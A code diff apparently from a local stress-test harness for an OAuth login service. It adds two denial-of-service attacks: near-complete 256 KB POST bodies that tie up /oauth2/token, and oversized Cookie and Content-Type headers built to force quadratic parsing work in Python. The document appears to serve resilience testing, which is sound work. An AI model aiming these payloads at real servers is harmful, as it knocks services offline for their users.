@@ -124,6 +124,37 @@ def slow_streams(target: Target, _number: int, over: threading.Event) -> None:
         over.wait(0.2)
 
 
+def large_bodies(target: Target, _number: int, over: threading.Event) -> None:
+    """A body of the greatest size, all of it but for the last byte; and again when the server gives it up."""
+    size = 256 * 1024
+    head = f"POST /oauth2/token HTTP/1.1\r\nHost: {target.host}\r\nX-Forwarded-For: {ATTACKER}\r\nContent-Type: {FORM}\r\n"
+    while not over.is_set():
+        with suppress(OSError), closing(target.connect()) as connection:
+            connection.sendall(f"{head}Content-Length: {size}\r\n\r\n".encode() + b"x" * (size - 1))
+            target.requests += 1
+            connection.settimeout(1)
+            while not over.is_set():
+                with suppress(TimeoutError):
+                    connection.recv(1)
+                    break
+        over.wait(0.1)
+
+
+def dear_headers(target: Target, number: int, over: threading.Event) -> None:
+    """Headers that Python reads in quadratic work: a page with an escaped cookie, liveness with a type of many parameters."""
+    kinds = (
+        ("/password/forgot", {"Cookie": 'a="' + "\\0" * 29_000 + '"'}),
+        ("/livez", {"Content-Type": 'a/b;"' + ";" * 60_000}),
+    )
+    path, headers = kinds[number % 2]
+    while not over.is_set():
+        with suppress(OSError, http.client.HTTPException):
+            with closing(http.client.HTTPConnection("127.0.0.1", target.port, timeout=30)) as connection:
+                connection.request("GET", path, None, {"Host": target.host, "X-Forwarded-For": ATTACKER} | headers)
+                connection.getresponse().read()
+            target.requests += 1
+
+
 def hostile_passwords(target: Target, number: int, over: threading.Event) -> None:
     """Registrations with a password that is dear to judge, each from an address of its own."""
     for count in range(1000):
@@ -227,6 +258,8 @@ ATTACKS = (
     Attack("slow bodies", slow_bodies, 40),
     Attack("slow heads", slow_heads, 40),
     Attack("slow HTTP/2 streams", slow_streams, 3),
+    Attack("large bodies", large_bodies, 140),
+    Attack("dear headers", dear_headers, 12),
     Attack("hostile passwords", hostile_passwords, 16, rows=4000, size=4_000_000),
     Attack("200 parallel sign-ins", sign_ins, 200, rows=4000, size=8_000_000),
     Attack("refused authorizations", refusals, 8, rows=400, size=1_000_000),
